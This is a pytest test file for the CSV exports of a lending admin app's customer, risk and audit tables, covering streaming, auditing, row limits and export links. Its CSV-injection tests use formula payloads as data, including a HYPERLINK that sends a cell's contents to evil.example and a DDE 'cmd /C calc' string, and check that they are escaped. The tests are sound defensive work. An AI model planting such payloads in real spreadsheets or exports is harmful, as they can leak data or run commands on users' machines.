"""CSV exports (`?_export=csv`) of the customer list, the risk review and the audit log: streamed,
the same file django-tables2's own export made, audited, refused past EXPORT_MAX_ROWS, and linked
from the page for the query the table shows now (after htmx swaps too)."""

import csv
import io
import json
import re

import pytest
from django.core.management import call_command
from django_tables2.export import TableExport

from bnpl_admin.audit.models import AuditEvent
from bnpl_admin.customers.models import Customer
from bnpl_admin.customers.selectors import phone_lookup_hash
from bnpl_admin.staff import exports
from tests.factories import CustomerFactory
from tests.pages import HTMX, csv_rows, first_column, html_of, text_of

pytestmark = pytest.mark.django_db

EXPORTS = [
    ("/customers/", {}),
    ("/customers/", {"status": "DEBT_USER", "sort": "-full_name"}),
    ("/customers/", {"q": "usr-00", "sort": "status"}),
    ("/risk/", {}),
    ("/risk/", {"sort": "-total_overdue"}),
    ("/audit/", {}),
    ("/audit/", {"action": "customer.status_changed", "sort": "actor_label"}),
]


@pytest.fixture
def seeded(db):
    """The demo data: customers in both states, plans with overdue installments, refunds, audit events."""
    call_command("seed_demo", "--customers", "60", stdout=io.StringIO(), stderr=io.StringIO())
    # Names the CSV must quote: a comma, a double quote, a line break; and one beyond Latin-1.
    CustomerFactory(customer_id="usr-quoted", full_name='O\'Neil, "Jo"\nSmith')
    CustomerFactory(customer_id="usr-unicode", full_name="Ўткир Ғафуров")


def _library_export(response) -> str:
    """The CSV django-tables2's own export (tablib) makes of the table the page shows."""
    table = response.context["table"]
    return TableExport(TableExport.CSV, table).export()


@pytest.mark.parametrize(("url", "query"), EXPORTS)
def test_the_streamed_export_is_the_file_the_library_made(risk_client, seeded, url, query):
    page = risk_client.get(url, query)
    response = risk_client.get(url, {**query, "_export": "csv"})

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = text_of(response)
    assert body == _library_export(page)
    assert body.count("\r\n") > 2


def test_rows_come_in_the_table_order_across_many_chunks(risk_client, seeded, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK_ROWS", 7)
    expected = Customer.objects.order_by("-full_name", "-customer_id").values_list("customer_id", flat=True)

    chunks = list(risk_client.get("/customers/", {"sort": "-full_name", "_export": "csv"}).streaming_content)

    assert len(chunks) == -(-(len(expected) + 1) // 7)  # the header and the rows, 7 lines a chunk
    rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode())))
    assert [row["Customer ID"] for row in rows] == list(expected)


def test_an_export_is_audited_with_its_filters_and_rows(support_client, seeded):
    response = support_client.get(
        "/customers/", {"status": "DEBT_USER", "q": "usr", "sort": "full_name", "page": "3", "_export": "csv"}
    )
    rows = csv_rows(response)

    event = AuditEvent.objects.get(action="table.exported")
    assert event.actor_user_id == support_client.user.pk
    assert (event.target_type, event.target_id) == ("export", "customers")
    assert event.data == {
        "rows": len(rows),
        "query": {"status": "DEBT_USER", "q": "(search text)", "sort": "full_name"},
    }


@pytest.mark.parametrize(
    ("url", "query"),
    [
        ("/customers/", {"status": "\x00"}),
        ("/risk/", {"sort": "a\x00b"}),
        ("/audit/", {"actor": "\x00", "date_to": "\x00"}),
    ],
)
def test_an_export_whose_filters_hold_a_nul_is_audited_not_a_500(risk_client, seeded, url, query):
    """PostgreSQL's JSON cannot hold a NUL: the audit event of such an export answered 500."""
    response = risk_client.get(url, {**query, "_export": "csv"})

    assert response.status_code == 200
    csv_rows(response)
    event = AuditEvent.objects.get(action="table.exported")
    assert event.data["query"] == {name: value.replace("\x00", "\ufffd") for name, value in query.items()}


def test_an_export_records_only_the_filters_and_sort_it_applied_each_cut_to_200_characters(risk_client, seeded):
    risk_client.get("/customers/", {"status": "DEBT_USER", "sort": "x" * 300, "utm_source": "mail", "_export": "csv"})

    event = AuditEvent.objects.get(action="table.exported")
    assert event.data["query"] == {"status": "DEBT_USER", "sort": "x" * 200}


def test_the_audit_log_shows_an_exports_filters_readably(risk_client, seeded):
    risk_client.get("/customers/", {"status": "DEBT_USER", "sort": "full_name", "_export": "csv"})
    risk_client.get("/risk/", {"_export": "csv"})

    html = html_of(risk_client.get("/audit/", {"action": "table.exported"}))

    assert "rows exported, filtered by sort=full_name, status=DEBT_USER" in html
    assert re.search(r"\d+ rows? exported</td>", html)


def test_a_phone_search_exports_through_its_hash_and_the_audit_holds_no_number(support_client, seeded):
    customer = Customer.objects.exclude(customer_id__startswith="usr-q").first()
    from bnpl_admin.customers.encryption import decrypt

    phone = decrypt(customer.phone_encrypted)

    response = support_client.get("/customers/", {"q": phone, "_export": "csv"}, follow=True)

    assert [row["Customer ID"] for row in csv_rows(response)] == [customer.customer_id]
    event = AuditEvent.objects.get(action="table.exported")
    assert event.data["query"] == {"ph": phone_lookup_hash(phone)}
    assert phone not in str(event.data) and phone.lstrip("+") not in str(event.data)


def test_an_export_past_the_limit_is_refused_before_it_starts(risk_client, seeded, settings):
    settings.EXPORT_MAX_ROWS = Customer.objects.count() - 1

    response = risk_client.get("/customers/", {"_export": "csv"})

    assert response.status_code == 400
    assert not response.streaming and response["Content-Type"].startswith("text/html")
    assert f"more than {settings.EXPORT_MAX_ROWS:,} rows" in html_of(response)
    assert "Narrow the search or the filters" in html_of(response)
    assert not AuditEvent.objects.filter(action="table.exported").exists()
    # The page's links sort and page the table; none exports again.
    links = re.findall(r'href="([^"]*)"', html_of(response))
    assert any("sort=" in link for link in links) and any("page=2" in link for link in links)
    assert [link for link in links if "_export" in link] == ["/customers/?_export=csv"]


def test_an_export_at_the_limit_is_made_whole(risk_client, seeded, settings):
    settings.EXPORT_MAX_ROWS = Customer.objects.count()

    response = risk_client.get("/customers/", {"_export": "csv"})

    assert response.status_code == 200
    assert len(csv_rows(response)) == settings.EXPORT_MAX_ROWS


def test_an_empty_result_exports_the_header_only(risk_client, seeded):
    response = risk_client.get("/customers/", {"q": "no such customer", "_export": "csv"})

    header = "Customer ID,Name,Phone,Passport,Card,Status,Outstanding,Overdue,Days overdue,Created"
    assert text_of(response) == header + "\r\n"


def test_the_audit_log_exports_iso_times_and_its_details_as_json(risk_client, seeded):
    response = risk_client.get("/audit/", {"action": "customer.status_changed", "_export": "csv"})

    rows = csv_rows(response)
    assert rows and all(row["Action"] == "customer.status_changed" for row in rows)
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d.*", row["When"]) for row in rows)
    details = [json.loads(row["Details"]) for row in rows]
    assert all({"from", "to", "reason"} <= detail.keys() for detail in details)
    assert {detail["to"] for detail in details} == {"DEBT_USER"}


# --- the export link follows the table's query ---------------------------------------------------


def _export_link(html: str) -> str:
    match = re.search(r'<a class="button" id="export-csv" href="([^"]*)"( hx-swap-oob="true")?>Export CSV</a>', html)
    assert match, "no export link"
    return match.group(1).replace("&amp;", "&")


@pytest.mark.parametrize("url", ["/customers/", "/risk/", "/audit/"])
def test_the_page_links_the_export_of_its_query_without_the_page_number(risk_client, seeded, url):
    html = html_of(risk_client.get(url, {"sort": "-customer_id" if url != "/audit/" else "at", "page": "2"}))

    link = _export_link(html)
    sort = "-customer_id" if url != "/audit/" else "at"
    assert link == f"{url}?_export=csv&sort={sort}"
    assert 'hx-swap-oob="true"' not in html  # the full page has the link in place


def test_a_table_swapped_by_htmx_brings_the_export_link_and_sort_of_its_query(risk_client, seeded):
    response = risk_client.get("/customers/", {"status": "DEBT_USER", "sort": "full_name"}, headers=HTMX)

    html = response.content.decode()
    assert _export_link(html) == "/customers/?_export=csv&sort=full_name&status=DEBT_USER"
    assert '<a class="button" id="export-csv" href="' in html and 'hx-swap-oob="true">Export CSV</a>' in html
    assert '<input type="hidden" name="sort" id="search-sort" value="full_name" hx-swap-oob="true">' in html
    exported = csv_rows(risk_client.get(_export_link(html)))
    assert [row["Customer ID"] for row in exported] == first_column(
        risk_client.get("/customers/", {"status": "DEBT_USER", "sort": "full_name"})
    )[: len(exported)]
    assert {row["Status"] for row in exported} == {"Debt user"}


def test_a_search_posted_by_htmx_links_the_export_of_that_search(support_client, seeded):
    response = support_client.post("/customers/", {"q": "usr-quoted", "sort": ""}, headers=HTMX)

    link = _export_link(response.content.decode())
    assert link == "/customers/?_export=csv&q=usr-quoted"
    assert [row["Customer ID"] for row in csv_rows(support_client.get(link))] == ["usr-quoted"]


# --- CSV injection ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "exported"),
    [
        ('=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("+Jo", "'+Jo"),
        ("\tTabbed", "'\tTabbed"),
        ("+998****4567", "+998****4567"),  # a masked phone: nothing to run
        ("-12.50", "-12.50"),
        ("Jo = Jo", "Jo = Jo"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_is_quoted(text, exported):
    assert exports.spreadsheet_safe(text) == exported


def test_a_name_written_as_a_formula_exports_as_text_and_shows_as_it_is_on_the_page(support_client, db):
    formula = '=HYPERLINK("https://evil.example","Open")'
    CustomerFactory(customer_id="usr-formula", full_name=formula)

    rows = csv_rows(support_client.get("/customers/", {"q": "usr-formula", "_export": "csv"}))
    page = support_client.get("/customers/", {"q": "usr-formula"})

    assert rows[0]["Name"] == "'" + formula
    assert rows[0]["Phone"].startswith("+998****")
    assert first_column(page) == ["usr-formula"]
    assert "=HYPERLINK(&quot;https://evil.example&quot;,&quot;Open&quot;)" in html_of(page)


# --- an export cut short -------------------------------------------------------------------------


@pytest.mark.postgres
def test_an_export_the_browser_drops_midway_closes_its_database_cursor(risk_client, seeded, monkeypatch):
    from django.db import connection

    def open_cursors():
        with connection.cursor() as cursor:
            cursor.execute("SELECT count(*) FROM pg_cursors")
            return cursor.fetchone()[0]

    monkeypatch.setattr(exports, "CHUNK_ROWS", 5)
    response = risk_client.get("/customers/", {"_export": "csv"})
    chunks = iter(response.streaming_content)
    next(chunks), next(chunks)  # two chunks sent, then the browser goes away
    assert open_cursors() == 1  # the export's, reading

    # What the WSGI server does when the client is gone: it closes the response. (Closing it also
    # lets Django close the connection; here it holds the test's transaction, so it stays open.)
    monkeypatch.setattr(connection, "close_if_unusable_or_obsolete", lambda: None)
    response.close()

    assert open_cursors() == 0
    assert risk_client.get("/customers/", {"status": "DEBT_USER"}).status_code == 200
